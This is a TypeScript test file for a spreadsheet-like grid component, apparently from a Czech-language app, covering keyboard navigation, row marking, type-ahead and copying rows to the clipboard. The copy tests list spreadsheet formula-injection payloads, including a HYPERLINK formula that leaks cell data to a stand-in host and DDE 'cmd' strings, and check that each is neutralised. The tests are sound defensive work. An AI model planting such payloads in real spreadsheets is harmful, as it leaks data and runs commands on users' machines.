import { describe, expect, it } from 'vitest'
import { copiedTable } from '../../../src-renderer/components/grid/copied-table'
import { extendedMarks, toggledMark } from '../../../src-renderer/components/grid/marks'
import { movedIndex } from '../../../src-renderer/components/grid/row-moves'
import { TypedText } from '../../../src-renderer/components/grid/typed-text'

describe('moving in a list', () => {
  const from = (index: number) => ({ index, count: 100, pageRows: 20 })

  it.each([
    ['ArrowDown', 5, 6],
    ['ArrowUp', 0, 0],
    ['ArrowDown', 99, 99],
    ['PageDown', 5, 25],
    ['PageDown', 95, 99],
    ['PageUp', 5, 0],
    ['Home', 50, 0],
    ['End', 50, 99],
  ])('%s leads from %i to %i', (key, index, expected) => {
    expect(movedIndex(key, from(index))).toBe(expected)
  })

  it('leaves other keys and empty lists alone', () => {
    expect(movedIndex('x', from(5))).toBeUndefined()
    expect(movedIndex('End', { index: 0, count: 0, pageRows: 20 })).toBeUndefined()
  })
})

describe('marks', () => {
  it('turns one over without touching the set it was given', () => {
    const marks = new Set(['a'])
    expect([...toggledMark(marks, 'b')]).toEqual(['a', 'b'])
    expect([...toggledMark(marks, 'a')]).toEqual([])
    expect([...marks]).toEqual(['a'])
  })

  it('extends in both directions, both ends included', () => {
    const ids = ['a', 'b', 'c', 'd']
    expect([...extendedMarks(new Set(), ids, [1, 2])]).toEqual(['b', 'c'])
    expect([...extendedMarks(new Set(['a']), ids, [3, 2])]).toEqual(['a', 'c', 'd'])
  })
})

describe('copied rows', () => {
  const columns = [
    { key: 'name', heading: 'Název', width: 1, text: (row: readonly string[]) => row[0] ?? '' },
    { key: 'note', heading: 'Poznámka', width: 1, text: (row: readonly string[]) => row[1] ?? '' },
  ]

  it('are a table that no cell can tear apart', () => {
    expect(
      copiedTable(columns, [
        ['Říčany', 'a\tb\r\nc'],
        ['Čáp', ''],
      ]),
    ).toMatchObject({ text: 'Název\tPoznámka\r\nŘíčany\ta b c\r\nČáp\t', rowCount: 2 })
  })

  it.each([
    '=HYPERLINK("http://elsewhere.example/?"&A1,"Otevřít")',
    ' =1+1',
    '"=1+1"',
    '\u200b=1+1',
    '@SUM(A1)',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd|x',
    '＝1+1',
  ])('32 are never a formula where they are pasted: %s', (text) => {
    const copied = copiedTable(columns, [[text, '']])
    expect(copied.text.split('\r\n')[1]).toMatch(/^'/)
    expect(copied.html).toContain(`"\\@"'>'`)
  })

  it.each(['+420 777 123 456', '+420-777-123', '-5', '–', 'a = b', 'jana@obec.example'])(
    'stay as they are where they do nothing: %s',
    (text) => {
      expect(copiedTable(columns, [[text, '']]).text).toContain(`\r\n${text}\t`)
    },
  )

  it('are cells of text for a spreadsheet, and never more than text', () => {
    const { html } = copiedTable(columns, [['00007064', '<b>"A" & B</b>']])
    expect(html).toContain(`<td style='mso-number-format:"\\@"'>00007064</td>`)
    expect(html).toContain('&lt;b&gt;&quot;A&quot; &amp; B&lt;/b&gt;</td>')
    expect(html).toContain('<tr><th>Název</th><th>Poznámka</th></tr>')
  })
})

describe('typing onto a list', () => {
  it('collects letters until a pause', () => {
    const typed = new TypedText()
    expect(typed.add('c', 1000)).toBe('c')
    expect(typed.add('h', 1300)).toBe('ch')
    expect(typed.isTyping(1500)).toBe(true)
    expect(typed.isTyping(5000)).toBe(false)
    expect(typed.add('x', 5000)).toBe('x')
  })
})
